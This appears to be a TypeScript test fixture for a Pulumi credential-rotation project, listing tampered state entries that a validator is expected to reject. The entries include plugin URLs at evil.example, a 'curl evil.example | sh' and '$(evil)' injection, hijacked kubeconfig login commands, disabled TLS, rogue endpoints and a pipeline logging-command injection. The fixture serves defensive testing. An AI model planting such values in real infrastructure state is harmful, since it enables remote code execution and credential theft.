import { deployerKubeconfig } from "../../components/platform/kubeconfig";
import type { State, StateResource } from "../../operate/state/state";

const URN = "urn:pulumi:prod::rotation::";
/** How an engine marks a secret in a state. */
const SECRET = { "4dabf18193072939515e22adb298388d": "1b47061264138c4ac30d75fd1eb44270" };
const CONNECTIONS = {
  namespace: "app",
  vault: { name: "kv-app-ab12cd", uri: "https://kv-app-ab12cd.vault.azure.net/" },
  database: { host: "psql-app-prod-ab12cd.postgres.database.azure.com", port: 5432, name: "app" },
  cluster: { server: "https://aks-app-prod-x1.hcp.swedencentral.azmk8s.io:443", authority: "Q0E=" },
};
const RUN = {
  plan: { counter: 1, live: 1, retired: 0 },
  settings: "3677c36eec626611 charts/app=be05e3 rotation:appImage=832523",
  attempt: "2026-11-29T08:49:43.982Z",
};

type Trick = readonly [what: string, resources: readonly StateResource[], named: RegExp];

/** An encrypted value, as a state has it. */
export const encrypted = { ...SECRET, ciphertext: "v1:Nmf3T1H+VyzWGI7z:Av44EZiT" };

/** A secret in an export with secrets. */
export const decrypted = (text: string) => ({ ...SECRET, plaintext: JSON.stringify(text) });

/** The kubeconfig that the program makes for a cluster at an address. */
export function kubeconfigFor(server: string): string {
  const cluster = { server, "certificate-authority-data": "Q0E=" };
  const clusters = JSON.stringify({ clusters: [{ name: "aks-app-prod", cluster }] });
  return deployerKubeconfig(Buffer.from(clusters).toString("base64"), "workloadidentity");
}

export const KUBECONFIG = kubeconfigFor(CONNECTIONS.cluster.server);

/** A provider, as the state has it. */
export function provider(name: string, inputs: Record<string, unknown>, as = name): StateResource {
  const type = `pulumi:providers:${name}`;
  const set = { version: "1.2.3", ...inputs };
  const outputs = Object.fromEntries(Object.entries(set).filter(([key]) => key !== "__internal"));
  return {
    urn: `${URN}${type}::${as}`,
    type,
    custom: true,
    id: `${as}-id`,
    inputs: { __internal: {}, ...set },
    outputs,
  };
}

/** A resource that a provider of its state serves. */
export function servedBy(of: StateResource, type: string, more: object = {}): StateResource {
  const urn = `${URN}${type}::it`;
  return { urn, type, custom: true, id: "it", provider: `${of.urn}::${of.id}`, ...more };
}

const POSTGRESQL = {
  connectTimeout: "180",
  database: "app",
  host: CONNECTIONS.database.host,
  password: encrypted,
  port: "5432",
  sslmode: "verify-full",
  superuser: "false",
  username: "rotation_admin",
};
const postgresql = (more: object) => provider("postgresql", { ...POSTGRESQL, ...more });
const kubernetes = (kubeconfig: unknown) =>
  provider("kubernetes", { enableServerSideApply: "true", kubeconfig });
const azure = (more: object) =>
  provider("azure-native", { environment: "public", location: "swedencentral", ...more });
const stack = (outputs: Record<string, unknown>): StateResource => ({
  urn: `${URN}pulumi:pulumi:Stack::rotation-prod`,
  type: "pulumi:pulumi:Stack",
  outputs,
});

/** What an honest stack has. */
export const HONEST: readonly StateResource[] = [
  stack({
    connections: CONNECTIONS,
    completed: RUN,
    gatewayAddress: "20.0.0.7",
    live: { slot: "green", generation: 1, secretVersion: "4cde1fed", expires: RUN.attempt },
    nextMoves: ["rotate: pulumi config set rotation:counter 2 && pulumi up"],
  }),
  azure({}),
  provider("random", {}),
  postgresql({}),
  kubernetes(encrypted),
  { urn: `${URN}rotation:index:Rotation::rotation`, type: "rotation:index:Rotation" },
  servedBy(postgresql({}), "postgresql:index/role:Role"),
  servedBy(azure({}), "azure-native:keyvault:Secret"),
];

/** A state with these resources beside a stack. */
export function stateOf(resources: readonly StateResource[]): State {
  return { deployment: { resources } };
}

/** A kubeconfig whose login is a command of somebody else. */
export function loginBy(command: string): string {
  return KUBECONFIG.replace("command: kubelogin", `command: ${command}`);
}

/** Code that a provider of the SDK itself reads from the state and runs: no plugin is downloaded. */
export function dynamic(code: string): StateResource[] {
  const nodejs = provider("pulumi-nodejs", {});
  const __provider = `exports.handler = () => ({ read: () => { ${code} } })`;
  const values = { inputs: { __provider }, outputs: { __provider } };
  return [nodejs, servedBy(nodejs, "pulumi-nodejs:dynamic:Resource", values)];
}

/** A plugin that comes from an address in the state. */
export function fromAddress(pluginDownloadURL: string): StateResource[] {
  const evil = provider("evil", { version: "6.6.6", __internal: { pluginDownloadURL } });
  return [evil, servedBy(evil, "evil:index:Thing")];
}

/** Everything that somebody who can write the state may try, and what of it is named. */
export const TRICKS: readonly Trick[] = [
  ["a plugin from an address of theirs", fromAddress("https://evil.example/"), /evil/],
  [
    "the same for a package that the program uses",
    [provider("random", { __internal: { pluginDownloadURL: "https://evil.example/" } })],
    /pluginDownloadURL/,
  ],
  [
    "the same where older engines kept it",
    [provider("random", { pluginDownloadURL: "https://evil.example/" })],
    /pluginDownloadURL/,
  ],
  [
    "a package of Pulumi's own that runs commands",
    [
      provider("command", {}),
      servedBy(provider("command", {}), "command:local:Command", {
        inputs: { delete: "touch /tmp/owned" },
      }),
    ],
    /command:local:Command.*package that the program does not use/,
  ],
  ["code that the SDK's own provider runs", dynamic("process.exit(7)"), /pulumi-nodejs:dynamic/],
  [
    "a resource of the program served by another package",
    [servedBy(provider("evil", {}), "random:index/randomString:RandomString")],
    /served by .*evil/,
  ],
  [
    "a type that is not the one of its name",
    [{ ...provider("evil", {}), type: "pulumi:providers:random" }],
    /says that it is a "pulumi:providers:random"/,
  ],
  ["a version that is no version", [provider("random", { version: "../../evil" })], /"version"/],
  [
    "another package inside of a known one",
    [provider("random", { __internal: { parameterization: { name: "evil" } } })],
    /parameterization/,
  ],
  [
    "an extension of a known package",
    [servedBy(azure({}), "azure-native:keyvault:Secret", { extensionRef: "x" })],
    /extends/,
  ],
  ["a command as the cluster's login", [kubernetes(loginBy("/tmp/evil"))], /"kubeconfig"/],
  [
    "arguments of its command",
    [kubernetes(KUBECONFIG.replace("--login", "--evil"))],
    /"kubeconfig"/,
  ],
  [
    "variables of its command",
    [
      kubernetes(
        KUBECONFIG.replace(
          "interactiveMode",
          "env: [{name: A, value: b}]\n        interactiveMode",
        ),
      ),
    ],
    /"kubeconfig"/,
  ],
  [
    "a cluster that nobody verifies",
    [
      kubernetes(
        KUBECONFIG.replace("certificate-authority-data: Q0E=", "insecure-skip-tls-verify: true"),
      ),
    ],
    /"kubeconfig"/,
  ],
  [
    "a proxy before the cluster",
    [
      kubernetes(
        KUBECONFIG.replace(
          "    cluster:\n",
          "    cluster:\n      proxy-url: http://evil.example\n",
        ),
      ),
    ],
    /"kubeconfig"/,
  ],
  [
    "a cluster of somebody else",
    [kubernetes(kubeconfigFor("https://evil.example"))],
    /"https:\/\/evil.example", which is not one of this stack's/,
  ],
  ["the same, read with secrets", [kubernetes(decrypted(loginBy("/tmp/evil")))], /"kubeconfig"/],
  [
    "Helm's plugins",
    [provider("kubernetes", { helmReleaseSettings: "{}" })],
    /helmReleaseSettings/,
  ],
  ["a database of somebody else", [postgresql({ host: "evil.example" })], /evil\.example/],
  [
    "an own database before an @",
    [postgresql({ host: `${CONNECTIONS.database.host}@evil.example` })],
    /"host"/,
  ],
  ["a database without TLS", [postgresql({ sslmode: "disable" })], /"sslmode"/],
  ["a certificate's authority of theirs", [postgresql({ sslrootcert: "/tmp/x" })], /"sslrootcert"/],
  [
    "where Azure's provider gets its endpoints",
    [azure({ metadataHost: "evil.example" })],
    /"metadataHost"/,
  ],
  [
    "where it gets its login",
    [azure({ oidcRequestUrl: "https://evil.example" })],
    /oidcRequestUrl/,
  ],
  ["another cloud", [azure({ environment: "evil" })], /"environment"/],
  [
    "a vault of somebody else in the outputs",
    [
      stack({
        connections: { ...CONNECTIONS, vault: { name: "kv", uri: "https://evil.example/" } },
      }),
    ],
    /the vault: the state gives its address as "https:\/\/evil\.example\/"/,
  ],
  [
    "a cluster of somebody else in the outputs",
    [stack({ connections: { ...CONNECTIONS, cluster: { server: "https://evil.example" } } })],
    /the cluster: /,
  ],
  [
    "a gateway that is a name",
    [stack({ gatewayAddress: "evil.example" })],
    /no address of a gateway/,
  ],
  [
    "a command in place of a counter",
    [stack({ completed: { ...RUN, plan: { ...RUN.plan, counter: "1; curl evil.example | sh" } } })],
    /"counter" of the completed run/,
  ],
  [
    "the same in the run that started",
    [
      {
        urn: `${URN}rotation:index:PlanGuard$pulumi:index:Stash::guard-started`,
        type: "pulumi:index:Stash",
        inputs: { input: { ...RUN, plan: { ...RUN.plan, live: "$(evil)" } } },
      },
    ],
    /"live" of the started run/,
  ],
  [
    "a line for the pipeline in a record",
    [stack({ live: { secretVersion: "v\n##vso[task.setvariable variable=PATH]/tmp" } })],
    /"secretVersion" of the live credential/,
  ],
];
